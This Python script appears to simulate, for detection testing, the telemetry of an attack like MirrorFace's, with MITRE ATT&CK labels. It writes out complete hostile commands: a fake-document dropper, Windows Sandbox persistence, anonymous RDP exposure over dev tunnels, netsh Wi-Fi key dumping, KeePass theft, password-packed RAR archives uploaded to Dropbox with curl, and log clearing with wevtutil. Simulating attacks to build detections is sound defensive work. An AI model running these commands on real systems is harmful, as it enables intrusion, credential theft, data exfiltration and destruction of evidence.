"""A dropper named as a document turns Windows Sandbox on and runs its program there from a .wsb file, opens two kinds of
dev tunnels, takes Wi-Fi keys, KeePass and packed documents to a cloud, and clears logs. It resembles MirrorFace's
work."""
import struct

from scenery import Desktop

SETTING = {"start": "2025-02-17T14:40:10", "user": "KENKYU\\h.sato", "home": "C:\\Users\\h.sato", "computer": "KENKYU-031",
           "os_version": (10, 0, 22631), "local_address": "172.20.4.31"}
MICROSOFT = {"company": "Microsoft Corporation"}
CACHE = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache"
GUID = "{94C1D7E2-0B55-4D5C-8F27-3A6F0E8819AC}"
TASK = r"Microsoft\Windows\Containers\Maintenance\SandboxRefresh"
HOME = r"C:\ProgramData\SbxCache"
TUNNELS = {"192.0.2.91": "global.rel.tunnels.api.visualstudio.com", "192.0.2.92": "jpe1.rel.tunnels.api.visualstudio.com",
           "192.0.2.93": "content.dropboxapi.com"}
DOCUMENTS = ["共同研究契約.docx", "予算2025.xlsx", "面談記録.docx", "出張報告_台北.docx", "政策提言案.docx", "名簿.xlsx",
             "議事録0210.docx", "議事録0217.docx", "海洋安全保障.pptx", "講演資料.pptx", "査読コメント.docx", "旅程.pdf",
             "委託仕様書.pdf", "覚書.pdf", "査証申請.pdf", "覚書_英訳.docx", "連絡先.xlsx", "中間報告.docx"]


def done_by(c, *processes):
    """The doers of behaviours whose processes start within them."""
    for behaviour in c.behaviours:
        behaviour.pids = behaviour.pids or {process.pid for process in processes}


def actions(command, arguments):
    """A task's actions as the registry keeps them."""
    def text(value):
        raw = value.encode("utf-16-le")
        return struct.pack("<I", len(raw)) + raw
    return struct.pack("<H", 3) + text("Author") + struct.pack("<HI", 0x6666, 0) + text(command) + text(arguments) + bytes(6)


def register_by_com(c, desktop, maker, command, arguments):
    """Only the library in the maker and the service's writes show that a task was made."""
    host, parent = desktop.scheduler, TASK.rsplit("\\", 1)[0]
    c.load(maker, c.system_root + r"\System32\taskschd.dll")
    c.folder(host, r"C:\Windows\System32\Tasks" + "\\" + parent)
    c.key(host, CACHE + r"\Tree" + "\\" + parent, new=True)
    c.set_value(host, CACHE + r"\Tree" + "\\" + parent + r"\SD", "REG_BINARY", bytes(120))
    c.drop(host, r"C:\Windows\System32\Tasks" + "\\" + TASK, 3_560)
    c.key(host, CACHE + r"\Tree" + "\\" + TASK, new=True)
    c.set_value(host, CACHE + r"\Tree" + "\\" + TASK + r"\Id", "REG_SZ", GUID)
    c.set_value(host, CACHE + r"\Tree" + "\\" + TASK + r"\Index", "REG_DWORD", 2)
    c.key(host, CACHE + r"\Tasks" + "\\" + GUID, new=True)
    c.set_value(host, CACHE + r"\Tasks" + "\\" + GUID + r"\Path", "REG_SZ", "\\" + TASK)
    c.set_value(host, CACHE + r"\Tasks" + "\\" + GUID + r"\Actions", "REG_BINARY", actions(command, arguments))


def run(c, parent, line, **more):
    """A command by a cmd of its own: both processes."""
    system32 = c.system_root + "\\System32\\"
    shell = c.spawn(parent, system32 + "cmd.exe", "cmd.exe /c " + line, **MICROSOFT)
    name = line.split()[0]
    tool = c.spawn(shell, system32 + name + ".exe", line, **MICROSOFT)
    for library in more.get("libraries", ()):
        c.load(tool, system32 + library)
    return shell, tool


def make_sandbox(c, desktop, sample):
    """The feature is turned on; a .wsb maps a folder of the host into the sandbox and names what to start there."""
    system32 = c.system_root + "\\System32\\"
    with c.behaviour("turns Windows Sandbox on", "medium", ("T1564.006", "T1112"), (),
                     ("Containers-DisposableClientVM", "dism")):
        shell, tool = run(c, sample,
                          "dism /online /enable-feature /featurename:Containers-DisposableClientVM /all /norestart /quiet")
        c.load(tool, system32 + r"Dism\DismCore.dll")
    done_by(c, sample, shell, tool)
    c.exit(tool)
    c.exit(shell)
    with c.behaviour("writes a sandbox's settings and starts the sandbox with them", "high", "T1564.006", (), "refresh.wsb"):
        c.folder(sample, HOME)
        c.folder(sample, HOME + r"\map")
        c.drop(sample, HOME + r"\map\grimtool.exe", 730_000, chunk=262_144)
        c.drop(sample, HOME + r"\map\go.bat", 220)
        c.drop(sample, HOME + r"\refresh.wsb", 840)
        sandbox = c.spawn(sample, system32 + "WindowsSandbox.exe", '"%sWindowsSandbox.exe" "%s\\refresh.wsb"' % (system32,
                                                                                                                 HOME),
                          **MICROSOFT)
        c.read(sandbox, HOME + r"\refresh.wsb", 840)
    done_by(c, sample, sandbox)
    c.exit(sandbox)
    with c.behaviour("makes a task in a nested folder by COM that starts the sandbox", "high", ("T1053.005", "T1564.006"),
                     sample, "SandboxRefresh"):
        register_by_com(c, desktop, sample, system32 + "WindowsSandbox.exe", HOME + r"\refresh.wsb")


def open_tunnels(c, sample):
    """Visual Studio Code's own tunnel, and the one for any port."""
    home = r"C:\ProgramData\vscli"
    c.folder(sample, home)
    c.drop(sample, home + r"\code.exe", 2_600_000, chunk=524_288)
    c.drop(sample, home + r"\dvt.exe", 2_100_000, chunk=524_288)
    with c.behaviour("lets others in by a tunnel of Visual Studio Code", "high", ("T1219.001", "T1219", "T1572", "T1102"),
                     (), ("code.exe", "tunnel")):
        code = c.spawn(sample, home + r"\code.exe", '"%s\\code.exe" tunnel --accept-server-license-terms --name kenkyu031 '
                       "--no-sleep --cli-data-dir %s\\d" % (home, home), description="Visual Studio Code", **MICROSOFT)
        c.drop(code, home + r"\d\code_tunnel.json", 160)
        c.exchange(code, ("192.0.2.91", 443), 51810, [517, 620], [3_900, 720])
        c.net(code, "Connect", ("192.0.2.92", 443), 51811)
        c.net(code, "Send", ("192.0.2.92", 443), 51811, 1_420)
    done_by(c, sample, code)
    with c.behaviour("opens Remote Desktop to anybody by a dev tunnel", "high", ("T1572", "T1219", "T1090", "T1219.001"), (),
                     ("dvt.exe", "--allow-anonymous", "3389")):
        tunnel = c.spawn(sample, home + r"\dvt.exe", '"%s\\dvt.exe" host -p 3389 --allow-anonymous --protocol auto' % home,
                         description="devtunnel", **MICROSOFT)
        c.exchange(tunnel, ("192.0.2.91", 443), 51820, [517, 610], [3_900, 680])
        c.net(tunnel, "Connect", ("127.0.0.1", 3389), 51822)
    done_by(c, sample, tunnel)
    return code


def wireless(c, parent):
    """The keys of wireless networks."""
    with c.behaviour("has netsh show the keys of wireless networks", "high", ("T1555", "T1552.001", "T1016.002", "T1552"),
                     (), ("key=clear", "wlan")):
        chain = []
        for line in ("netsh wlan show profiles", "netsh wlan show profile name=kenkyu-5G key=clear",
                     "netsh wlan export profile folder=C:\\ProgramData\\SbxCache key=clear"):
            chain += run(c, parent, line, libraries=("wlanapi.dll",))
            if "export" in line:
                c.drop(chain[-1], HOME + r"\Wi-Fi-kenkyu-5G.xml", 890)
            c.exit(chain[-1])
            c.exit(chain[-2])
    done_by(c, parent, *chain)


def take_keepass(c, parent):
    roaming = c.home + r"\AppData\Roaming\KeePass"
    with c.behaviour("copies the KeePass database and its settings", "high", ("T1555.005", "T1005", "T1552.001"), parent,
                     ("KeePass.config.xml", "研究室.kdbx")):
        for source, name in ((roaming + r"\KeePass.config.xml", "kc.tmp"), (c.home + r"\Documents\研究室.kdbx", "kd.tmp"),
                             (c.home + r"\Documents\研究室.keyx", "kk.tmp")):
            c.read(parent, source, 6_400)
            c.drop(parent, HOME + "\\" + name, 6_400)


def take_documents(c, parent):
    """An archiver under another name packs the documents into volumes with a password; curl takes these to a cloud."""
    system32 = c.system_root + "\\System32\\"
    archiver = HOME + r"\dllhst3g.exe"
    c.drop(parent, archiver, 650_000, chunk=262_144)
    with c.behaviour("a renamed RAR packs the user's documents into volumes with a password", "high",
                     ("T1560.001", "T1005", "T1036.003", "T1074.001"), (), ("dllhst3g.exe", "-hp", "c1.rar")):
        packer = c.spawn(parent, archiver,
                         '"%s" a -r -ep1 -m5 -v512k -hpSbx!2025 -ta20240101 %s\\c1.rar %s\\Documents\\*.docx '
                         "%s\\Documents\\*.xlsx %s\\Documents\\*.p*" % (archiver, HOME, c.home, c.home, c.home),
                         company="Alexander Roshal", description="Command line RAR", version="6.24.0")
        for number, name in enumerate(DOCUMENTS):
            c.read(packer, c.home + r"\Documents" + "\\" + name, 61_000 + 20_000 * (number % 4))
        for number in range(1, 4):
            c.drop(packer, HOME + r"\c1.part%d.rar" % number, 524_288, chunk=131_072)
    done_by(c, parent, packer)
    c.exit(packer)
    with c.behaviour("curl takes the archives to Dropbox", "high", ("T1567.002", "T1041", "T1567"), (),
                     ("content.dropboxapi.com", "curl")):
        chain = []
        for number in range(1, 4):
            volume = HOME + r"\c1.part%d.rar" % number
            curl = c.spawn(parent, system32 + "curl.exe", 'curl -s -X POST https://content.dropboxapi.com/2/files/upload -H '
                           '"Content-Type: application/octet-stream" --data-binary @%s' % volume,
                           company="curl, https://curl.se/")
            c.read(curl, volume, 524_288, chunk=131_072)
            c.exchange(curl, ("192.0.2.93", 443), 51840 + number, [517, 800] + [65_536] * 8, [4_200, 410])
            c.delete(parent, volume)
            c.exit(curl)
            chain.append(curl)
    done_by(c, parent, *chain)


def story(c):
    desktop = Desktop(c)
    for address, name in TUNNELS.items():
        c.host(address, name)
    logs = c.system(c.system_root + r"\System32\svchost.exe",
                    c.system_root + r"\System32\svchost.exe -k LocalServiceNetworkRestricted "
                    "-p -s EventLog", parent=desktop.services)
    desktop.murmur(5)
    sample = c.home + r"\Downloads\講演のお願い.docx.exe"
    with c.behaviour("a program bears the name of a document", "medium", ("T1036.007", "T1036", "T1204.002"), (),
                     ".docx.exe"):
        sample = c.spawn(desktop.explorer, sample, integrity="High")
        c.load(sample, c.system_root + r"\System32\winhttp.dll")
    done_by(c, sample)
    decoy = c.home + r"\AppData\Local\Temp\講演のお願い.docx"
    c.drop(sample, decoy, 24_000)
    word = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    c.spawn(sample, word, '"%s" /n "%s"' % (word, decoy), **MICROSOFT)
    make_sandbox(c, desktop, sample)
    desktop.resolve()
    code = open_tunnels(c, sample)
    desktop.murmur(3)
    wireless(c, sample)
    take_keepass(c, sample)
    take_documents(c, sample)
    c.wait(400)
    system32 = c.system_root + "\\System32\\"
    with c.behaviour("the task starts the sandbox with the settings file", "high", ("T1053.005", "T1564.006"), (),
                     ("refresh.wsb", "SandboxRefresh")):
        again = c.spawn(desktop.scheduler, system32 + "WindowsSandbox.exe",
                        '"%sWindowsSandbox.exe" %s\\refresh.wsb' % (system32, HOME), **MICROSOFT)
        c.read(again, HOME + r"\refresh.wsb", 840)
    done_by(c, desktop.scheduler, again, sample)
    with c.behaviour("clears the event logs", "high", ("T1685.005", "T1685.001"), (), ("wevtutil", "Security.evtx")):
        chain = []
        for log in ("Security", "System"):
            chain += run(c, sample, "wevtutil cl " + log, libraries=("wevtapi.dll",))
            c.drop(logs, r"C:\Windows\System32\winevt\Logs\%s.evtx" % log, 69_632, opened=3)
            c.exit(chain[-1])
            c.exit(chain[-2])
    done_by(c, sample, *chain)
    c.exit(code)
    desktop.murmur(3)
